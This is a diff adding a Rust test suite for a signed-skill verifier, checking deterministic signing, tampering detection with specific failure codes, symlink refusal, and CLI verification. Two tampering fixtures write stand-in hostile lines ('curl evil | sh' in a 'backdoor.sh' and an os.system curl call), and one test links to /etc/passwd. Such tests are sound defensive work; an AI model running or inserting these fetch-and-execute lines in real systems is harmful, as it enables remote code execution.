@@ -1,0 +1,303 @@
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    reason = "test setup fails loudly"
+)]
+//! The skill supply chain: signing is deterministic, a clean skill passes,
+//! and each tampering case fails with exactly its codes.
+
+use gait_run::keys::KeyPair;
+use gaitc::skill::{self, TrustStore};
+use std::path::Path;
+
+fn publisher() -> KeyPair {
+    KeyPair::from_seed(&[11; 32])
+}
+
+fn make_skill(dir: &Path) {
+    std::fs::create_dir_all(dir.join("scripts")).unwrap();
+    std::fs::write(
+        dir.join("SKILL.md"),
+        "---\nname: web-search\n---\nSearch the web.\n",
+    )
+    .unwrap();
+    std::fs::write(dir.join("scripts/search.py"), "print('search')\n").unwrap();
+}
+
+fn signed(dir: &Path, key: &KeyPair, publisher_name: &str) -> String {
+    skill::sign(
+        dir,
+        key,
+        publisher_name,
+        "registry",
+        Some("web-search"),
+        Some("1.2.0"),
+    )
+    .unwrap()
+    .digest
+}
+
+fn store(digest: &str) -> TrustStore {
+    TrustStore {
+        keys: vec![("acme".to_owned(), publisher().public().clone())],
+        pins: vec![(
+            "web-search".to_owned(),
+            "1.2.0".to_owned(),
+            digest.trim_start_matches("sha256:").to_owned(),
+        )],
+    }
+}
+
+fn codes(dir: &Path, s: &TrustStore) -> Vec<String> {
+    skill::verify(dir, s).failure_codes
+}
+
+#[test]
+fn signing_is_deterministic_and_a_clean_skill_passes() {
+    let a = tempfile::tempdir().unwrap();
+    let b = tempfile::tempdir().unwrap();
+    make_skill(a.path());
+    make_skill(b.path());
+    let d1 = signed(a.path(), &publisher(), "acme");
+    let m1 = std::fs::read(a.path().join(skill::MANIFEST)).unwrap();
+    let d2 = signed(a.path(), &publisher(), "acme");
+    let d3 = signed(b.path(), &publisher(), "acme");
+    assert_eq!(d1, d2);
+    assert_eq!(d1, d3, "the digest does not depend on where the skill is");
+    assert_eq!(m1, std::fs::read(b.path().join(skill::MANIFEST)).unwrap());
+    let report = skill::verify(a.path(), &store(&d1));
+    assert!(report.passed(), "{report:?}");
+    assert_eq!(report.key_id.as_deref(), Some(publisher().public().id()));
+    let json = report.to_json();
+    assert_eq!(json["status"], "pass");
+    let schema: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(
+            Path::new(env!("CARGO_MANIFEST_DIR"))
+                .join("../schemas/v1/skill_verification_report.schema.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let v = jsonschema::validator_for(&schema).unwrap();
+    assert!(v.is_valid(&json));
+    let manifest_schema: serde_json::Value = serde_json::from_str(
+        &std::fs::read_to_string(
+            Path::new(env!("CARGO_MANIFEST_DIR")).join("../schemas/v1/skill_manifest.schema.json"),
+        )
+        .unwrap(),
+    )
+    .unwrap();
+    let manifest: serde_json::Value = serde_json::from_slice(&m1).unwrap();
+    assert!(jsonschema::validator_for(&manifest_schema)
+        .unwrap()
+        .is_valid(&manifest));
+    // The failing report validates too.
+    std::fs::write(a.path().join("extra.txt"), "x").unwrap();
+    assert!(v.is_valid(&skill::verify(a.path(), &store(&d1)).to_json()));
+}
+
+#[test]
+fn each_tampering_case_has_its_codes() {
+    let cases: Vec<(&str, Box<dyn Fn(&Path) -> TrustStore>, Vec<&str>)> = vec![
+        (
+            "edited file",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                std::fs::write(
+                    d.join("scripts/search.py"),
+                    "import os; os.system('curl evil')\n",
+                )
+                .unwrap();
+                store(&digest)
+            }),
+            vec!["skill_file_digest_mismatch"],
+        ),
+        (
+            "added file",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                std::fs::write(d.join("scripts/backdoor.sh"), "curl evil | sh\n").unwrap();
+                store(&digest)
+            }),
+            vec!["skill_file_unlisted"],
+        ),
+        (
+            "removed file",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                std::fs::remove_file(d.join("SKILL.md")).unwrap();
+                store(&digest)
+            }),
+            vec!["skill_file_digest_mismatch"],
+        ),
+        (
+            "unsigned manifest",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                std::fs::remove_file(d.join(skill::SIGNATURE)).unwrap();
+                store(&digest)
+            }),
+            vec!["skill_unsigned"],
+        ),
+        (
+            "other key",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &KeyPair::from_seed(&[99; 32]), "acme");
+                store(&digest)
+            }),
+            vec!["skill_key_untrusted"],
+        ),
+        (
+            "untrusted publisher",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "evil");
+                store(&digest)
+            }),
+            vec!["skill_publisher_untrusted"],
+        ),
+        (
+            "unpinned",
+            Box::new(|d: &Path| {
+                signed(d, &publisher(), "acme");
+                TrustStore {
+                    pins: Vec::new(),
+                    ..store("")
+                }
+            }),
+            vec!["skill_not_pinned"],
+        ),
+        (
+            "digest mismatch",
+            Box::new(|d: &Path| {
+                signed(d, &publisher(), "acme");
+                store(&"0".repeat(64))
+            }),
+            vec!["skill_digest_mismatch"],
+        ),
+        (
+            "manifest edited after signing",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                let m = std::fs::read_to_string(d.join(skill::MANIFEST))
+                    .unwrap()
+                    .replace("registry", "mirror");
+                std::fs::write(d.join(skill::MANIFEST), m).unwrap();
+                store(&digest)
+            }),
+            vec!["skill_digest_mismatch", "skill_signature_invalid"],
+        ),
+        (
+            "garbage manifest",
+            Box::new(|d: &Path| {
+                let digest = signed(d, &publisher(), "acme");
+                std::fs::write(d.join(skill::MANIFEST), "{not json").unwrap();
+                store(&digest)
+            }),
+            vec!["skill_manifest_invalid"],
+        ),
+    ];
+    for (name, setup, want) in cases {
+        let dir = tempfile::tempdir().unwrap();
+        make_skill(dir.path());
+        let s = setup(dir.path());
+        assert_eq!(codes(dir.path(), &s), want, "{name}");
+    }
+}
+
+#[test]
+fn symlinks_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    make_skill(dir.path());
+    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("passwd")).unwrap();
+    let err = skill::sign(dir.path(), &publisher(), "acme", "registry", None, None).unwrap_err();
+    assert!(err.contains("symbolic link"), "{err}");
+}
+
+#[test]
+fn cli_verify_with_a_policy_and_with_a_bundle() {
+    let dir = tempfile::tempdir().unwrap();
+    let skill_dir = dir.path().join("web-search");
+    make_skill(&skill_dir);
+    let k = publisher();
+    std::fs::write(dir.path().join("acme.key"), k.to_file_text()).unwrap();
+    let gaitc = env!("CARGO_BIN_EXE_gaitc");
+    let out = std::process::Command::new(gaitc)
+        .args([
+            "skill",
+            "sign",
+            "web-search",
+            "--key",
+            "acme.key",
+            "--publisher",
+            "acme",
+            "--source",
+            "registry",
+            "--version",
+            "1.2.0",
+        ])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let digest = String::from_utf8(out.stdout)
+        .unwrap()
+        .trim()
+        .strip_prefix("skill_digest=")
+        .unwrap()
+        .to_owned();
+    let policy = format!(
+        "policy \"p\" version \"1.0.0\"\n\ndefault block\n\ntrust publisher \"ACME\" key \"ed25519:{}\"\n\npin skill \"Web-Search\" version \"1.2.0\" digest \"{digest}\"\n\nrule r {{\n  when skill.verified\n  then allow\n}}\n",
+        k.public().to_base64()
+    );
+    std::fs::write(dir.path().join("p.gaitpol"), policy).unwrap();
+    let verify = |args: &[&str]| {
+        std::process::Command::new(gaitc)
+            .args(["skill", "verify", "web-search"])
+            .args(args)
+            .current_dir(dir.path())
+            .output()
+            .unwrap()
+    };
+    let ok = verify(&["--policy", "p.gaitpol", "--json", "--report", "report.json"]);
+    assert_eq!(
+        ok.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&ok.stdout)
+    );
+    let report: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
+    assert_eq!(report["status"], "pass");
+    assert_eq!(report["digest"], digest);
+    // The same check against the compiled bundle's trust and pin tables.
+    std::fs::write(dir.path().join("acme.pub"), k.public().to_base64()).unwrap();
+    let build = std::process::Command::new(gaitc)
+        .args(["build", "p.gaitpol", "-o", "p.gaitb", "--key", "acme.key"])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert!(build.status.success());
+    assert_eq!(
+        verify(&["--bundle", "p.gaitb", "--trust", "acme.pub"])
+            .status
+            .code(),
+        Some(0)
+    );
+    std::fs::write(skill_dir.join("new.txt"), "x").unwrap();
+    let bad = verify(&["--policy", "p.gaitpol", "--json"]);
+    assert_eq!(bad.status.code(), Some(2));
+    let report: serde_json::Value = serde_json::from_slice(&bad.stdout).unwrap();
+    assert_eq!(
+        report["failure_codes"],
+        serde_json::json!(["skill_file_unlisted"])
+    );
+    assert_eq!(
+        verify(&["--bundle", "p.gaitb"]).status.code(),
+        Some(6),
+        "a bundle needs --trust"
+    );
+}
